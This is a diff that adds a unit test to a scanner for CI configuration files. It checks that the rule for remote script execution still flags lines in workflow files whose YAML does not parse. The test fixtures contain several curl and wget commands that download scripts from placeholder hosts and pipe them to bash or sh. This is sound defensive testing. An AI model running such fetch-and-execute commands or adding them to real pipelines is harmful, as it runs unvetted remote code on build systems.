@@ -19,6 +19,18 @@ function lines(path: string, text: string, ruleId: string): number[] {
 
 const wf = (run: string, on = 'push') => `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n${run.split('\n').map((l) => `          ${l}`).join('\n')}\n`;
 
+describe('a CI file whose YAML does not parse', () => {
+  it('is reported, and its run/script values are still checked line by line', () => {
+    const workflow = 'on: [push]\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSL https://x.example.com/i.sh | bash\n      - run: |\n          echo hi\n          wget -qO- https://x.example.com/j.sh | sh\n      - run: "curl -s https://x | bash"\n      - name: curl docs | bash\n    env: {A: 1\n';
+    const gitlab = 'test:\n  script:\n    - npm ci\n    - curl -s https://get.example.com | sh\n  image: {x\n';
+    for (const [path, text, want] of [['.github/workflows/d.yml', workflow, [6, 9, 10]], ['.gitlab-ci.yml', gitlab, [4]]] as const) {
+      const r = scanText(path, text, rules);
+      expect(r.hits.filter((h) => h.ruleId === 'SCS-CI-001').map((h) => h.line), path).toEqual(want);
+      expect(r.problems.map((p) => p.message), path).toEqual([expect.stringMatching(/^invalid YAML/)]);
+    }
+  });
+});
+
 describe('SCS-CI-001 remote script execution', () => {
   it.each([
     ['curl -fsSL https://x/i.sh | bash', 1],
